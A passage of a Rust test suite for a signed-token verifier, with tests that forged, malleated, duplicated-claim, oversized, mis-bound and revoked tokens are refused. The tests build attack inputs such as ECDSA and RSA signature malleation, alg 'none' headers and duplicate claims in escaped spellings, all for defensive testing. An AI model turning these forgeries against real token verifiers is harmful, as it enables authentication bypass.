        // of them a signer writes. So no check may rest on a token's bytes: what is used up, and what is
        // revoked, is its `jti`, and that is under the signature.
        let token = token(Alg::Es256);
        let (message, signature) = cut(&token);
        let (r, s) = signature.split_at(32);
        let twin = resigned(message, &[r, &subtract(&bytes(N), s)].concat());
        assert_ne!(twin, token);
        assert_eq!(Check::default().run(&twin), Check::default().run(&token));
    }

    #[test]
    fn an_rs256_signature_with_the_modulus_added_is_refused() {
        let n = bytes(RSA_N);
        let added = (0..64).find_map(|i| {
            let token = issue(&Claims { jti: base64url(&[i; 32]), ..claims() }, key(Alg::Rs256)).unwrap();
            let (message, signature) = cut(&token);
            Some(resigned(message, &add(&signature, &n)?))
        });
        assert_eq!(code(&added.expect("a signature below 2^2048 - n")), "token.signature");
    }

    #[test]
    fn an_rsa_signature_under_another_scheme_is_refused() {
        let token = token(Alg::Rs256);
        let (message, _) = cut(&token);
        let key = key(Alg::Rs256);
        all_refused(
            Alg::Rs256,
            [
                key.sign_rsa(&RSA_PKCS1_SHA384, message.as_bytes()),
                key.sign_rsa(&RSA_PKCS1_SHA512, message.as_bytes()),
                key.sign_rsa(&RSA_PSS_SHA256, message.as_bytes()),
            ],
        );
    }

    #[test]
    fn a_signature_of_another_token_or_of_a_stranger_is_refused() {
        for alg in ALGS {
            let other = issue(&Claims { jti: base64url(&[1; 32]), ..claims() }, key(alg)).unwrap();
            all_refused(alg, [cut(&other).1]);
        }
        let message = token(Alg::EdDSA);
        let (message, _) = cut(&message);
        let signature = intended_token::TokenSigner::sign(&stranger(), message.as_bytes()).unwrap();
        all_refused(Alg::EdDSA, [signature]);
    }

    #[test]
    fn base64url_in_another_spelling_is_refused() {
        const ALPHABET: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        for alg in ALGS {
            let token = token(alg);
            let parts: Vec<&str> = token.split('.').collect();
            for at in 0..3 {
                let part = parts[at];
                let (first, last) = part.split_at(part.len() - 1);
                let mut others = vec![format!("{part}="), format!("{part}=="), format!("={part}")];
                for blank in [" ", "\n", "\r\n", "\t", "\0", "%20", "\u{a0}", "é", "\u{ff21}"] {
                    others.extend([
                        format!("{part}{blank}"),
                        format!("{blank}{part}"),
                        format!("{first}{blank}{last}"),
                    ]);
                }
                // The other alphabet, for what stands in this part or would.
                others.extend([format!("{first}+"), format!("{first}/"), format!("{first}%2B")]);
                // Bits behind the last byte that no byte takes.
                if !part.len().is_multiple_of(4) {
                    let same = |c: char| {
                        let value = |c: char| ALPHABET.find(c).unwrap();
                        let unused = if part.len() % 4 == 2 { 4 } else { 2 };
                        value(c) >> unused == value(last.chars().next().unwrap()) >> unused
                    };
                    let spellings: Vec<_> = ALPHABET.chars().filter(|c| same(*c)).collect();
                    assert!(spellings.len() >= 4);
                    others.extend(spellings.iter().map(|c| format!("{first}{c}")).filter(|o| o != part));
                }
                for other in others {
                    let mut parts = parts.clone();
                    parts[at] = &other;
                    let outcome = code(&parts.join("."));
                    assert_eq!(outcome, "token.malformed", "{alg:?}, part {at}: {other:?}");
                }
            }
        }
    }

    #[test]
    fn the_standard_alphabet_in_place_of_the_url_safe_one_is_refused() {
        let mut seen = 0;
        for i in 0..16 {
            let token = issue(&Claims { jti: base64url(&[i; 32]), ..claims() }, key(Alg::EdDSA)).unwrap();
            assert_eq!(code(&token), ACCEPTED);
            for (from, to) in [('-', "+"), ('_', "/"), ('-', "%2D")] {
                if token.contains(from) {
                    seen += 1;
                    assert_eq!(code(&token.replace(from, to)), "token.malformed");
                }
            }
        }
        assert!(seen >= 16);
    }
}

mod claims {
    use intended_token::{Alg, MAX_TOKEN};
    use serde_json::{Value, json};

    use crate::fixture::{ACCEPTED, claims, code, payload, token, with, with_claims, with_payload, with_text, without};

    #[test]
    fn a_claim_that_stands_twice_is_refused() {
        let text = String::from_utf8(payload()).unwrap();
        let value: Value = serde_json::from_str(&text).unwrap();
        for (name, value) in value.as_object().unwrap() {
            for other in [value.clone(), Value::Null, json!("https://evil.test"), json!(9)] {
                let (before, after) = (format!(r#"{{"{name}":{other},"#), format!(r#","{name}":{other}}}"#));
                let first = format!("{before}{}", &text[1..]);
                let last = format!("{}{after}", &text[..text.len() - 1]);
                assert_eq!(code(&with_payload(first.as_bytes())), "token.claims", "{name} {other} first");
                assert_eq!(code(&with_payload(last.as_bytes())), "token.claims", "{name} {other} last");
            }
        }
    }

    #[test]
    fn a_claim_that_stands_twice_under_two_spellings_is_refused() {
        assert_eq!(code(&with_text(r#""aud":"#, r#""\u0061ud":"https://evil.test","aud":"#)), "token.claims");
        assert_eq!(code(&with_text(r#""tid":"#, r#""t\u0069d":"evil","tid":"#)), "token.claims");
    }

    #[test]
    fn a_member_that_stands_twice_inside_a_claim_is_refused() {
        for (from, to) in [
            (r#""tool":"#, r#""tool":"evil","tool":"#),
            (r#""resource":{"#, r#""resource":{"id":"evil","#),
            (r#""arguments_digest":"#, r#""arguments_digest":"","arguments_digest":"#),
            (r#""ledger":{"#, r#""ledger":{"index":0,"#),
            (r#""act":{"#, r#""act":{"sub":"evil","#),
        ] {
            assert_eq!(code(&with_text(from, to)), "token.claims", "{to}");
        }
    }

    #[test]
    fn a_payload_that_is_not_one_strict_json_object_is_refused() {
        let text = String::from_utf8(payload()).unwrap();
        for other in [
            format!("\u{feff}{text}"),
            format!("{text}{text}"),
            format!("{text}x"),
            text.replace("support-agent", "\\ud800"),
            text.replace(r#","once""#, r#",,"once""#),
            text.replace(r#""once":true"#, r#""once":true,"#),
            format!(r#"{},"x":{}{}}}"#, &text[..text.len() - 1], "[".repeat(33), "]".repeat(33)),
            "x".to_owned(),
        ] {
            assert_eq!(code(&with_payload(other.as_bytes())), "token.claims", "{other}");
        }
        assert_eq!(code(&with_payload(&[payload(), vec![0xff]].concat())), "token.claims");
        // Strict JSON, but nothing that has times.
        for other in ["null", "[]", "{}", r#""text""#, "1", &format!("[{text}]")] {
            assert_eq!(code(&with_payload(other.as_bytes())), "token.times", "{other}");
        }
    }

    #[test]
    fn a_token_that_lacks_a_claim_or_has_one_of_another_type_is_refused() {
        for claim in ["sub", "jti", "txn", "policy", "intent_hash", "ledger", "authorization_details", "once"] {
            assert_eq!(code(&without(claim)), "token.claims", "{claim}");
            for value in [Value::Null, json!(1), json!([1]), json!({ "x": 1 })] {
                assert_eq!(code(&with(claim, value.clone())), "token.claims", "{claim} {value}");
            }
        }
    }

    #[test]
    fn a_token_that_grants_anything_but_one_action_once_is_refused() {
        let other = json!({ "type": "intended:action", "tool": "bank.transfer", "operation": "transfer",
            "resource": { "id": "all", "type": "account" }, "arguments_digest": claims().intent_hash.to_string() });
        let details = "authorization_details";
        for (what, token) in [
            ("none", with(details, json!([]))),
            ("two", with_claims(|c| c[details].as_array_mut().unwrap().push(other.clone()))),
            ("two, the other first", with_claims(|c| c[details].as_array_mut().unwrap().insert(0, other.clone()))),
            ("the same twice", with_claims(|c| c[details] = json!([c[details][0], c[details][0]]))),
            ("no list", with_claims(|c| c[details] = c[details][0].clone())),
            ("another type", with_claims(|c| c[details][0]["type"] = json!("payment_initiation"))),
            ("an unknown member", with_claims(|c| c[details][0]["actions"] = json!(["*"]))),
            ("an unknown member of the resource", with_claims(|c| c[details][0]["resource"]["also"] = json!("*"))),
            ("tools", with_claims(|c| c[details][0]["tool"] = json!(["mail.send", "bank.transfer"]))),
            ("more than once", with("once", json!(false))),
            ("an unknown member of the chain", with_claims(|c| c["act"]["may_act"] = json!("*"))),
            ("an unknown member of the position", with_claims(|c| c["ledger"]["fork"] = json!(1))),
            ("a position below zero", with_claims(|c| c["ledger"]["index"] = json!(-1))),
            (
                "a digest in upper case",
                with_claims(|c| {
                    c["intent_hash"] = json!(claims().intent_hash.to_string().to_uppercase());
                }),
            ),
            (
                "a digest cut short",
                with_claims(|c| {
                    c["intent_hash"] = json!(&claims().intent_hash.to_string()[..70]);
                }),
            ),
        ] {
            assert_eq!(code(&token), "token.claims", "{what}");
        }
    }

    #[test]
    fn a_claim_that_nobody_knows_changes_nothing() {
        assert_eq!(code(&with("scope", json!("*"))), ACCEPTED);
        assert_eq!(code(&with("AUD", json!("https://evil.test"))), ACCEPTED);
    }

    #[test]
    fn a_token_of_a_mebibyte_is_refused_without_being_read() {
        const MIB: usize = 1 << 20;
        let token = token(Alg::EdDSA);
        let (message, signature) = token.rsplit_once('.').unwrap();
        for other in [
            "a".repeat(MIB),
            ".".repeat(MIB),
            format!("{token}{}", "A".repeat(MIB)),
            format!("{message}{}.{signature}", "A".repeat(MIB)),
            format!("{}{token}", " ".repeat(MIB)),
            with("pad", json!("x".repeat(MIB))),
        ] {
            assert_eq!(code(&other), "token.malformed");
        }
    }

    #[test]
    fn a_token_is_read_up_to_its_limit_and_not_beyond() {
        let (mut longest, mut shortest) = (0, usize::MAX);
        for pad in MAX_TOKEN * 3 / 4 - 1000..MAX_TOKEN * 3 / 4 {
            let token = with("pad", json!("x".repeat(pad)));
            match code(&token) {
                ACCEPTED => longest = longest.max(token.len()),
                "token.malformed" => shortest = shortest.min(token.len()),
                other => panic!("{other}"),
            }
        }
        assert!(longest <= MAX_TOKEN && shortest > MAX_TOKEN, "{longest} {shortest}");
        assert!(longest > MAX_TOKEN - 4 && shortest <= MAX_TOKEN + 4, "{longest} {shortest}");
    }
}

mod binding {
    use intended_model::Digest;
    use intended_token::{Binding, Call, SingleUse};

    use crate::fixture::{ALGS, Check, call, claims, token};

    #[test]
    fn a_token_for_another_call_is_refused() {
        let other = |text: &str| text.to_owned();
        let own = call();
        for call in [
            Call { arguments_digest: Digest::of(b"other arguments"), ..own.clone() },
            Call { arguments_digest: claims().intent_hash, ..own.clone() },
            Call { agent: other("other-agent"), ..own.clone() },
            Call { agent: own.agent.to_uppercase(), ..own.clone() },
            // Whom the agent acts for is not the agent.
            Call { agent: other("alice"), ..own.clone() },
            Call { tool: other("mail.delete"), ..own.clone() },
            Call { tool: other("mail.send "), ..own.clone() },
            Call { resource_id: other("ceo@acme.test"), ..own.clone() },
            Call { resource_id: other("*"), ..own.clone() },
            Call { resource_id: String::new(), ..own.clone() },
            Call { resource_type: other("account"), ..own.clone() },
            Call { resource_type: own.resource_id.clone(), resource_id: own.resource_type.clone(), ..own.clone() },
        ] {
            for alg in ALGS {
                let check = Check { binding: Binding::Call(call.clone()), ..Check::default() };
                assert_eq!(check.code(&token(alg)), "token.binding", "{call:?}");
            }
        }
    }

    #[test]
    fn a_token_for_another_intent_is_refused() {
        for hash in [Digest::of(b"other intent"), claims().action.arguments_digest, Digest::from_bytes([0; 32])] {
            let check = Check { binding: Binding::IntentHash(hash), ..Check::default() };
            assert_eq!(check.code(&token(intended_token::Alg::EdDSA)), "token.binding");
        }
    }

    #[test]
    fn what_is_accepted_offline_says_that_single_use_was_not_checked() {
        for binding in [Binding::Call(call()), Binding::IntentHash(claims().intent_hash)] {
            let accepted = Check { binding, ..Check::default() }.run(&token(intended_token::Alg::EdDSA)).unwrap();
            assert_eq!((accepted.single_use, accepted.claims), (SingleUse::NotChecked, claims()));
        }
    }
}

mod revocation {
    use intended_token::revocation::{MAX_AGE, TYPE};
    use intended_token::verify::LEEWAY_SECS;
    use intended_token::{Alg, Binding, RevocationList, TokenSigner as _, issue_revocation_list};
    use serde_json::{Value, json};

    use crate::fixture::{
        ACCEPTED, ALGS, Check, NOW, at, bytes, claims, cut, forge, key, keys, resigned, stranger, token,
    };

    const ISSUER: &str = "https://intended.test";

    fn list_text(tenant: &str, now: i64, revoked: &[&str]) -> String {
        let revoked: Vec<_> = revoked.iter().map(|jti| ((*jti).to_owned(), now + 300)).collect();
        issue_revocation_list(ISSUER, tenant, now, 7, &revoked, key(Alg::EdDSA)).unwrap()
    }
    fn list(tenant: &str, now: i64, revoked: &[&str]) -> RevocationList {
        RevocationList::open(&list_text(tenant, now, revoked), ISSUER, keys()).unwrap()
    }
    fn code(list: &RevocationList) -> &'static str {
        Check { revocations: Some(list), ..Check::default() }.code(&token(Alg::EdDSA))
    }
    fn opened(text: &str) -> &'static str {
        RevocationList::open(text, ISSUER, keys()).map_or_else(intended_token::Refusal::code, |_| ACCEPTED)
    }
    /// A valid list but for what `edit` does to it.
    fn with(edit: impl FnOnce(&mut Value)) -> String {
        let text = list_text("acme", NOW, &[]);
        let mut value: Value = serde_json::from_slice(&bytes(text.split('.').nth(1).unwrap())).unwrap();
        edit(&mut value);
        let key = key(Alg::EdDSA);
        let header = format!(r#"{{"alg":"EdDSA","kid":"{}","typ":"{TYPE}"}}"#, key.kid());
        forge(&header, value.to_string().as_bytes(), key)
    }

    #[test]
    fn a_revoked_token_is_refused_and_no_other() {
        let jti = claims().jti;
        assert_eq!(code(&list("acme", NOW, &[])), ACCEPTED);
        assert_eq!(code(&list("acme", NOW, &["another", &jti.to_lowercase(), ""])), ACCEPTED);
        assert_eq!(code(&list("acme", NOW, &["another", &jti])), "token.revoked");
    }

    #[test]
    fn a_revoked_token_is_refused_under_every_algorithm() {
        let list = list("acme", NOW, &[&claims().jti]);
        for alg in ALGS {
            let check = Check { revocations: Some(&list), ..Check::default() };
            assert_eq!(check.code(&token(alg)), "token.revoked", "{alg:?}");
        }
    }

    #[test]
    fn a_stale_list_is_not_relied_on_even_if_it_names_nothing() {
        let now = Check::default().now.as_secs();
        for (made, expected) in [
            (now, ACCEPTED),
            (now - MAX_AGE + 1, ACCEPTED),
            (now - MAX_AGE, "token.revocations_stale"),
            (now - 3600, "token.revocations_stale"),
            (now + LEEWAY_SECS, ACCEPTED),
            (now + LEEWAY_SECS + 1, "token.revocations_stale"),
        ] {
            assert_eq!(code(&list("acme", made, &[])), expected, "{made}");
        }
        assert_eq!(code(&list("acme", now - MAX_AGE, &[&claims().jti])), "token.revocations_stale");
    }

    #[test]
    fn a_list_that_was_fresh_when_it_was_opened_goes_stale() {
        let list = list("acme", NOW - MAX_AGE + 2, &[]);
        let at = |seconds| {
            let check = Check { revocations: Some(&list), now: at(seconds), ..Check::default() };
            check.code(&token(Alg::EdDSA))
        };
        assert_eq!((at(NOW + 1), at(NOW + 2)), (ACCEPTED, "token.revocations_stale"));
    }

    #[test]
    fn a_list_that_would_be_relied_on_for_longer_than_the_limit_is_refused() {
        assert_eq!(opened(&with(|l| l["exp"] = json!(NOW + MAX_AGE))), ACCEPTED);
        for (iat, exp) in [
            (NOW, NOW + MAX_AGE + 1),
            (NOW, 9_007_199_254_740_991),
            (0, NOW + MAX_AGE),
            (-9_007_199_254_740_991, 9_007_199_254_740_991),
            (NOW, NOW),
            (NOW, NOW - 1),
        ] {
            let list = with(|l| {
                l["iat"] = json!(iat);
                l["exp"] = json!(exp);
            });
            assert_eq!(opened(&list), "token.times", "{iat} {exp}");
        }
    }

    #[test]
    fn a_list_of_another_tenant_says_nothing_about_this_one() {
        assert_eq!(code(&list("evil", NOW, &[])), "token.tenant");
        assert_eq!(code(&list("ACME", NOW, &[])), "token.tenant");
    }

    #[test]
    fn a_list_of_another_issuer_is_refused() {
        let foreign = issue_revocation_list("https://evil.test", "acme", NOW, 7, &[], key(Alg::EdDSA)).unwrap();
        assert_eq!(opened(&foreign), "token.issuer");
    }

    #[test]
    fn a_list_of_a_stranger_or_a_retired_key_is_refused() {
        let foreign = issue_revocation_list(ISSUER, "acme", NOW, 7, &[], &stranger()).unwrap();
        assert_eq!(opened(&foreign), "token.key_unknown");
        let mut retired = keys().clone();
        retired.retire(key(Alg::EdDSA).kid());
        let refused = RevocationList::open(&list_text("acme", NOW, &[]), ISSUER, &retired).unwrap_err();
        assert_eq!(refused.code(), "token.key_retired");
    }

    #[test]
    fn a_list_that_was_altered_is_refused() {
        let (full, empty) = (list_text("acme", NOW, &[&claims().jti]), list_text("acme", NOW, &[]));
        let ((_, signature), (message, _)) = (cut(&full), cut(&empty));
        assert_eq!(opened(&resigned(message, &signature)), "token.signature");
    }

    #[test]
    fn a_token_is_no_list() {
        assert_eq!(opened(&token(Alg::EdDSA)), "token.type");
    }

    #[test]
    fn a_list_that_is_not_exactly_one_is_refused() {
        for (what, list) in [
            ("an unknown member", with(|l| l["except"] = json!([claims().jti]))),
            ("ids in the clear", with(|l| l["revoked"] = json!([claims().jti]))),
            ("no ids", with(|l| l["revoked"] = Value::Null)),
            ("a sequence below zero", with(|l| l["seq"] = json!(-1))),
            ("an end in text", with(|l| l["exp"] = json!("9"))),
            ("an end that is a fraction", with(|l| l["exp"] = json!(1.5))),
        ] {
            assert_eq!(opened(&list), "token.claims", "{what}");
        }
    }

    #[test]
    fn a_list_is_looked_at_before_the_call_is() {
        let list = list("acme", NOW, &[&claims().jti]);
        let binding = Binding::IntentHash(intended_model::Digest::of(b"other"));
        let check = Check { revocations: Some(&list), binding, ..Check::default() };
        assert_eq!(check.code(&token(Alg::EdDSA)), "token.revoked");
    }
}

mod codes {
    use intended_token::{Alg, Refusal, TokenSigner as _};
    use serde_json::json;

    use crate::fixture::{Check, at, code, cut, forge, header, key, payload, resigned, stranger, with_claims};

    #[test]
    fn the_codes_are_stable() {
        for (refusal, code) in [
            (Refusal::Malformed, "token.malformed"),
            (Refusal::Type, "token.type"),
            (Refusal::Algorithm, "token.algorithm"),
            (Refusal::Header, "token.header"),
            (Refusal::KeyUnknown, "token.key_unknown"),
            (Refusal::KeyRetired, "token.key_retired"),
            (Refusal::Signature, "token.signature"),
            (Refusal::Claims, "token.claims"),
            (Refusal::Times, "token.times"),
            (Refusal::NotYetValid, "token.not_yet_valid"),
            (Refusal::Expired, "token.expired"),
            (Refusal::Issuer, "token.issuer"),
            (Refusal::Audience, "token.audience"),
            (Refusal::Tenant, "token.tenant"),
            (Refusal::Environment, "token.environment"),
            (Refusal::Revoked, "token.revoked"),
            (Refusal::RevocationsStale, "token.revocations_stale"),
            (Refusal::Binding, "token.binding"),
            (Refusal::Consumed, "token.consumed"),
        ] {
            assert_eq!(refusal.code(), code);
        }
    }

    #[test]
    fn the_first_failure_is_the_one_that_is_named() {
        let own = key(Alg::EdDSA);
        // Everything is wrong; then, from the outside in, one thing after the other is put right.
        let wrong = with_claims(|c| {
            for (claim, value) in [("iss", "x"), ("aud", "x"), ("tid", "x"), ("env", "x")] {
                c[claim] = json!(value);
            }
        });
        let (message, _) = cut(&wrong);
        let claims = crate::fixture::bytes(message.split_once('.').unwrap().1);
        let headers = [
            (r#"{"alg":"none","kid":"?","typ":"JWT","crit":[]}"#.to_owned(), "token.type"),
            (r#"{"alg":"none","kid":"?","typ":"authority+jwt","crit":[]}"#.to_owned(), "token.algorithm"),
            (r#"{"alg":"EdDSA","kid":"?","typ":"authority+jwt","crit":[]}"#.to_owned(), "token.header"),
            (header("EdDSA", "?"), "token.key_unknown"),
            (header("ES256", own.kid()), "token.algorithm"),
            (header("EdDSA", own.kid()), "token.signature"),
        ];
        for (header, expected) in headers {
            assert_eq!(code(&forge(&header, &claims, &stranger())), expected, "{header}");
        }
        let late = Check { now: at(i64::from(u32::MAX)), ..Check::default() };
        assert_eq!(late.code(&wrong), "token.expired");
        let mut right: serde_json::Value = serde_json::from_slice(&payload()).unwrap();
        let order = ["iss", "aud", "tid", "env"];
        let expected = ["token.issuer", "token.audience", "token.tenant", "token.environment"];
        for (claim, expected) in order.into_iter().zip(expected).rev() {
            right[claim] = json!("x");
            assert_eq!(code(&crate::fixture::with_payload(right.to_string().as_bytes())), expected);
        }
        assert_eq!(code(&resigned(message, &[1])), "token.signature");
    }
}
